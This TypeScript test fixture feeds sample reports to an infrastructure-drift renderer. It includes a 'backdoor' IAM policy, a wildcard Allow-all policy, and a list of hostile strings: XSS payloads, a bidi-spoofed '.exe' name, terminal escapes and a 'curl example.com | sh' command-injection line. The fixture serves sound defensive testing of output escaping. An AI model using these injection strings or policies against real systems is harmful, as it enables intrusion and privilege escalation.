/** Reports to render: findings of every kind from the small payment system, and hostile ones. */
import type { Finding, Report } from '../../../pipeline/comparison/finding.ts';
import {
  about,
  addition,
  both,
  compared,
  deployed,
  inAccount,
  inProgram,
  ours,
  rulesWith,
} from '../comparison/observed.ts';

const backdoor = {
  type: 'aws:iam/rolePolicy:RolePolicy',
  name: 'backdoor',
  physicalId: 'role:backdoor',
  properties: { name: 'backdoor' },
};

export const inSync = compared({});
export const unobserved = compared({
  prod: about({ causes: ['refresh: the role may not perform lambda:GetFunction'] }),
});
export const drifted = compared({
  staging: inAccount(ours.function, { ephemeralStorage: { size: 1024 } }),
  prod: both(
    inAccount(ours.table, { pointInTimeRecovery: { enabled: false } }),
    inAccount(ours.rolePolicy, {
      policy: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
    }),
    inAccount(ours.function, { description: 'changed by hand', ephemeralStorage: { size: 1024 } }),
    deployed(ours.key, { enableKeyRotation: false }),
    inProgram(ours.queue, { delaySeconds: 3 }),
    addition(ours.role, backdoor),
  ),
  rules: rulesWith({
    waivers: [
      {
        resource: 'aws:sqs/queue:Queue/payments-ingest',
        reason: 'a test of the queue',
        owner: 'team',
        expires: '2026-12-01',
      },
    ],
  }),
});

/** A finding of each way to be wrong: markup, mentions, links, direction marks, control characters. */
export const hostileTexts = [
  '`code` ``` | pipe | @octocat <script>alert(1)</script>',
  '</details></code></pre><img src=x onerror=alert(1)> &amp; &#64;org/team',
  '# heading\n- list\n> quote\n```js\nfence\n```',
  '[link](https://example.com) ![img](//example.com/x.png) www.example.com owner/repo#12 GH-7 #9',
  'abc\u202egnp.exe\u200b\u2066\ufeff \u001b[31mred\u0007',
  '名前 \u{1f600} ñ مرحبا',
  '"; curl example.com | sh #$(id)`id`',
] as const;

export const base = drifted.findings[0] as Finding;

export const withFindings = (findings: readonly Finding[], more: Partial<Report> = {}): Report => ({
  ...drifted,
  findings,
  ...more,
});

export const hostile: Report = withFindings(
  hostileTexts.map((text, index) => ({
    ...base,
    id: `hostile${index}`,
    resource: { type: text, name: text, urn: `urn:pulumi:prod::payments::x$${text}::${text}`, physicalId: text },
    path: text,
    expected: text,
    actual: { [text]: [text] },
    reason: text,
    attribution: { actor: text, event: text, at: '2026-11-24T00:00:00Z' },
    waiver: { owner: text, expires: '2026-12-01', reason: text },
  })),
  {
    notes: hostileTexts.map((text) => ({ environment: text, text })),
    environments: Object.fromEntries(
      hostileTexts.map((text) => [
        text,
        {
          account: text,
          region: text,
          release: text,
          observed: 'partial',
          observedAt: '2026-11-24T00:00:00Z',
          resources: 1,
          notObservable: [{ resource: text, path: text, reason: text }],
          error: text,
        },
      ]),
    ),
    resources: hostileTexts.map((text) => ({ type: text, name: text, environments: { [text]: 'deployed' } })),
  },
);

/** Many findings, the worst first. */
export const many = (count: number): Report =>
  withFindings(
    Array.from({ length: count }, (_, index) => ({
      ...base,
      id: index.toString(16).padStart(12, '0'),
      resource: { ...base.resource, name: `resource-${index}` },
      severity: index < count / 10 ? ('critical' as const) : ('low' as const),
    })),
  );

/** What hides or turns text; nothing of it may reach a reader. */
export const invisible = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
